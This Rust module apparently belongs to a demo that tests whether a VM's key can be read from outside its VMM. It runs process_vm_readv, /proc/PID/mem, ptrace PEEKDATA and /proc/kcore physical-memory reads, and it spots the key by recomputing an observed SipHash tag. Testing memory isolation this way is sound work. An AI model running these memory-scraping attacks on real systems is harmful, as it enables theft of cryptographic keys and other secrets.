//! The attacks on a VM's key, from a process that is not its VMM: the key-agent demo's three
//! (`process_vm_readv`, `/proc/PID/mem`, ptrace `PEEKDATA`) on the whole guest RAM mapping, and
//! root reading physical memory through the kernel's direct map with `/proc/kcore`, twice: at
//! the page frames `/proc/PID/pagemap` names, and in a scan of all of RAM, because pagemap
//! names none for a `VM_PFNMAP` mapping such as secret memory (`walk_page_test` skips those).
//!
//! The attacker holds no key. It knows one when it sees one: it has watched one challenge and
//! the guest's tag for it, and any 16 bytes (or 32-byte seed) that recompute that tag are the
//! guest's key.

use super::kcore::{self, Kcore, PAGE};
use super::siphash::{self, Challenge};
use crate::attack::ATTACKS;
use std::cell::OnceCell;
use std::io;

/// A VM under attack, as the attacker sees it.
pub(crate) struct Target {
    /// The VMM.
    pub(crate) pid: libc::pid_t,
    /// Guest RAM in the VMM: its address and size (an attacker reads them in `/proc/PID/maps`).
    pub(crate) addr: u64,
    pub(crate) len: usize,
    /// One challenge and the guest's tag for it, seen on the wire.
    pub(crate) sighting: (Challenge, u64),
    /// The first bytes of the guest program's page, which is public.
    pub(crate) signature: &'static [u8],
}

/// What an attack got.
pub(crate) enum Finding {
    /// The key or the seed, and where.
    Leaked(String),
    /// Nothing: the error, or what was read instead.
    Refused(String),
}

/// The attacker's state across targets: the RAM scan is done once for all of them.
#[derive(Default)]
pub(crate) struct Attacker {
    /// The physical addresses of the pages of RAM that start with the guest program.
    guest_pages: OnceCell<Result<Vec<u64>, String>>,
}

/// One attack on a [`Target`].
pub(crate) struct VmAttack {
    pub(crate) name: &'static str,
    pub(crate) run: fn(&Attacker, &Target) -> Finding,
}

pub(crate) const VM_ATTACKS: [VmAttack; 5] = [
    VmAttack {
        name: "process_vm_readv",
        run: |_, t| read_ram(t, ATTACKS[0].read),
    },
    VmAttack {
        name: "/proc/PID/mem",
        run: |_, t| read_ram(t, ATTACKS[1].read),
    },
    VmAttack {
        name: "ptrace PEEKDATA",
        run: |_, t| read_ram(t, ATTACKS[2].read),
    },
    VmAttack {
        name: "kcore at pagemap",
        run: |_, t| at_page_frames(t),
    },
    VmAttack {
        name: "kcore RAM scan",
        run: scan_ram,
    },
];

/// Where in `bytes` the guest's key or seed is, as the tag seen for a challenge tells.
fn find_secret(bytes: &[u8], (challenge, tag): &(Challenge, u64)) -> Option<(usize, &'static str)> {
    (0..bytes.len()).step_by(8).find_map(|at| {
        let key = bytes.get(at..at + 16).and_then(siphash::words::<2>);
        if key.is_some_and(|key| siphash::mac(&key, challenge) == *tag) {
            return Some((at, "key"));
        }
        let seed = bytes.get(at..at + 32).and_then(|s| s.try_into().ok());
        let key = seed.map(siphash::derive_key);
        key.filter(|key| siphash::mac(key, challenge) == *tag)
            .map(|_| (at, "seed"))
    })
}

fn refused(e: io::Error) -> Finding {
    Finding::Refused(format!("refused: {e}"))
}

/// Reads all of guest RAM from the VMM's address space with one of the demo's attacks.
fn read_ram(target: &Target, read: fn(libc::pid_t, usize, &mut [u8]) -> io::Result<()>) -> Finding {
    let mut ram = vec![0u8; target.len];
    if let Err(e) = read(target.pid, target.addr as usize, &mut ram) {
        return refused(e);
    }
    match find_secret(&ram, &target.sighting) {
        Some((at, what)) => Finding::Leaked(format!("LEAKED {what} at gpa {at:#x}")),
        None if ram.iter().all(|&b| b == 0) => Finding::Refused("read zeros".into()),
        None => Finding::Refused(format!("read {} KiB, no key", target.len / 1024)),
    }
}

/// Reads the VMM's guest RAM pages through the kernel's direct map, at the page frames
/// pagemap names.
fn at_page_frames(target: &Target) -> Finding {
    let kcore = match Kcore::open() {
        Ok(kcore) => kcore,
        Err(e) => return refused(e),
    };
    let frames = match kcore::page_frames(target.pid, target.addr, target.len) {
        Ok(frames) => frames,
        Err(e) => return Finding::Refused(format!("refused: pagemap: {e}")),
    };
    let mut page = [0u8; PAGE];
    let mut read = 0;
    let mut zero = 0;
    for (i, pfn) in frames.iter().enumerate() {
        let Some(pfn) = pfn else { continue };
        let phys = pfn * PAGE as u64;
        if let Err(e) = kcore.read_page(phys, &mut page) {
            return refused(e);
        }
        read += 1;
        zero += usize::from(page.iter().all(|&b| b == 0));
        if let Some((at, what)) = find_secret(&page, &target.sighting) {
            let gpa = i * PAGE + at;
            return Finding::Leaked(format!(
                "LEAKED {what} at phys {:#x} (gpa {gpa:#x})",
                phys + at as u64
            ));
        }
    }
    Finding::Refused(match (read, zero) {
        (0, _) => "pagemap names no page frame".to_string(),
        (read, zero) if zero == read => format!("read zeros ({read} pages)"),
        (read, _) => format!("read {read} pages, no key"),
    })
}

/// Reads every page of RAM that starts with the guest program through the kernel's direct
/// map and searches it.
fn scan_ram(attacker: &Attacker, target: &Target) -> Finding {
    let kcore = match Kcore::open() {
        Ok(kcore) => kcore,
        Err(e) => return refused(e),
    };
    let pages = attacker.guest_pages.get_or_init(|| {
        kcore
            .pages_starting_with(target.signature)
            .map_err(|e| e.to_string())
    });
    let pages = match pages {
        Ok(pages) => pages,
        Err(e) => return Finding::Refused(format!("refused: {e}")),
    };
    let mut page = [0u8; PAGE];
    for &phys in pages {
        if let Err(e) = kcore.read_page(phys, &mut page) {
            return refused(e);
        }
        if let Some((at, what)) = find_secret(&page, &target.sighting) {
            return Finding::Leaked(format!("LEAKED {what} at phys {:#x}", phys + at as u64));
        }
    }
    Finding::Refused(format!(
        "{} MiB read: {} page(s) of guest program, no key",
        kcore.ram_size() >> 20,
        pages.len()
    ))
}
